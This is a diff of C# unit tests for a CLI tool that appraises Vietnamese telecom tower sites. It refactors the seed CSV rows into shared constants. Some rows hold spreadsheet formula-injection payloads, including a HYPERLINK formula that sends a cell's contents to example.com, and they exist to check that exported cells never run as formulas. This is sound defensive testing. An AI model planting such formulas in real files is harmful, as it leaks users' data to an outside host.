@@ -14,6 +14,19 @@ public class AppraiseCommandTests
         return path;
     }
 
+    /// <summary>The seed's Móng Cái tower in the military area (R04: needs consultation).</summary>
+    private const string MongCaiRow = "Viettel,MC-33,107.97826,21.53008,A2b,33,no,";
+
+    /// <summary>A site in Hồng Gai whose code is a formula that would leak data if run (R08: does not conform).</summary>
+    private const string FormulaCodeRow = "Viettel,\"=HYPERLINK(\"\"http://example.com/?\"\"&A1)\",107.0800,20.9500,A1a,12,no,";
+
+    /// <summary>A row whose longitude does not read: rejected.</summary>
+    private const string UnreadableRow = "VNPT,BAD,abc,20.95,A1a,12,no,";
+
+    /// <summary>seed.csv in a new folder: the header and the rows given.</summary>
+    private static string Batch(params string[] rows) =>
+        Write(CliRunner.NewTempDir(), "seed.csv", string.Join('\n', [Header, .. rows]) + "\n");
+
     private static List<Dictionary<string, string>> ReadCsv(string path)
     {
         using var reader = new StreamReader(path);
@@ -113,19 +126,8 @@ public class AppraiseCommandTests
     [Fact]
     public void TheResultsFileIsInVietnameseWithoutCodesOrHashes_AndNoCellRunsAsAFormula()
     {
-        var dir = CliRunner.NewTempDir();
-        var input = Write(
-            dir,
-            "seed.csv",
-            string.Join(
-                '\n',
-                Header,
-                "Viettel,MC-33,107.97826,21.53008,A2b,33,no,",
-                "Viettel,\"=HYPERLINK(\"\"http://example.com/?\"\"&A1)\",107.0800,20.9500,A1a,12,no,",
-                "@SUM(1+1),-2+3,107.0810,20.9510,A1a,12,no,"
-            ) + "\n"
-        );
-        var output = Path.Combine(dir, "ket-qua.csv");
+        var input = Batch(MongCaiRow, FormulaCodeRow, "@SUM(1+1),-2+3,107.0810,20.9510,A1a,12,no,");
+        var output = Path.Combine(Path.GetDirectoryName(input)!, "ket-qua.csv");
         Assert.Equal(0, CliRunner.Run(null, "appraise", "--plan", CliRunner.QuangNinh, "--in", input, "--out", output).ExitCode);
 
         var lines = File.ReadAllLines(output);
@@ -168,19 +170,8 @@ public class AppraiseCommandTests
     [Fact]
     public void TheResultsAsAnExcelWorkbook_HaveNumbersAsNumbers_TextAsText_AndTheCounts()
     {
-        var dir = CliRunner.NewTempDir();
-        var input = Write(
-            dir,
-            "seed.csv",
-            string.Join(
-                '\n',
-                Header,
-                "Viettel,MC-33,107.97826,21.53008,A2b,33,no,",
-                "Viettel,\"=HYPERLINK(\"\"http://example.com/?\"\"&A1)\",107.0800,20.9500,A1a,12,no,",
-                "VNPT,BAD,abc,20.95,A1a,12,no,"
-            ) + "\n"
-        );
-        var output = Path.Combine(dir, "ket-qua.xlsx");
+        var input = Batch(MongCaiRow, FormulaCodeRow, UnreadableRow);
+        var output = Path.Combine(Path.GetDirectoryName(input)!, "ket-qua.xlsx");
         var r = CliRunner.Run(null, "appraise", "--plan", CliRunner.QuangNinh, "--in", input, "--out", output, "--date", "2026-01-15");
         Assert.Equal(0, r.ExitCode);
         Assert.False(File.Exists(output + ".partial"));
@@ -238,19 +229,8 @@ public class AppraiseCommandTests
     [Fact]
     public void TheResultsAsGeoJson_ArePointsAGisReads_WithTheVerdictsAsProperties()
     {
-        var dir = CliRunner.NewTempDir();
-        var input = Write(
-            dir,
-            "seed.csv",
-            string.Join(
-                '\n',
-                Header,
-                "Viettel,MC-33,107.97826,21.53008,A2b,33,no,",
-                "Viettel,HL-20,107.0800,20.9500,A1a,12,no,",
-                "VNPT,BAD,abc,20.95,A1a,12,no,"
-            ) + "\n"
-        );
-        var output = Path.Combine(dir, "ket-qua.geojson");
+        var input = Batch(MongCaiRow, "Viettel,HL-20,107.0800,20.9500,A1a,12,no,", UnreadableRow);
+        var output = Path.Combine(Path.GetDirectoryName(input)!, "ket-qua.geojson");
         Assert.Equal(0, CliRunner.Run(null, "appraise", "--plan", CliRunner.QuangNinh, "--in", input, "--out", output, "--where").ExitCode);
 
         using var doc = JsonDocument.Parse(File.ReadAllText(output));
